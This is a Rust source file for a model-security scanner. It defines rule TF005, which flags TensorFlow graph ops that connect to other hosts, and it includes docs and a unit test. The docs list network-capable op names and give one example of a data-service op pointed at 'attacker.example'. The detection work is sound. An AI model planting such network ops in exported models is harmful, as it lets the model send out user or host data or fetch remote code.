//! TF005: a graph talks to other hosts (RPC, tf.data service, Kafka, BigQuery).

use sentrascan_types::{Category, Finding, Location, RuleMeta, Severity};

use super::Site;

pub static RULE: RuleMeta = RuleMeta {
    code: "TF005",
    name: "tf-network-op",
    family: super::FAMILY,
    default_severity: Severity::High,
    category: Category::NetworkOperations,
    scanner: "tensorflow",
    cwe: Some("CWE-200"),
    owasp_ml: Some("ML06:2023"),
    version: 1,
    summary: "A TensorFlow graph contains an op that connects to other hosts.",
    remediation: "Do not serve the model with network access; re-export it without the network ops.",
    docs: r#"## What it does
Reports nodes whose op opens connections: the RPC ops (`Rpc`, `TryRpc`,
`RpcServer*`, `RpcClient`, `RpcCall`), the tf.data service
(`DataServiceDataset*`, `RegisterDataset*`, `DistributedSave`),
`KafkaDataset`, `BigQueryReader` and `GenerateBigQueryReaderPartitions`.

## Why is this bad?
A model that connects out can exfiltrate its inputs or the host's data,
fetch a second stage, or become a server inside your network.

## Example
`DataServiceDatasetV4(address=Const("attacker.example:5000"), …)`.

## How to fix
Re-export the model without these ops; serve models without network access.

## References
- https://www.tensorflow.org/api_docs/python/tf/distribute/experimental/rpc
- CWE-200: Exposure of Sensitive Information to an Unauthorized Actor
"#,
};

pub(crate) fn finding(location: &Location, site: &Site<'_>) -> Finding {
    site.finding_base(Finding::new(
        &RULE,
        location.at(site.offset),
        format!("Network op {}", site.describe()),
    ))
    .description(format!(
        "Node {} connects to other hosts when the model runs.",
        site.describe()
    ))
}

#[cfg(test)]
mod tests {
    use super::super::tests::{node, rules, run_graph};

    #[test]
    fn rpc_is_reported() {
        assert_eq!(
            rules(&run_graph(vec![node("r", "Rpc", &[])])),
            ["TF005 HIGH"]
        );
    }
}
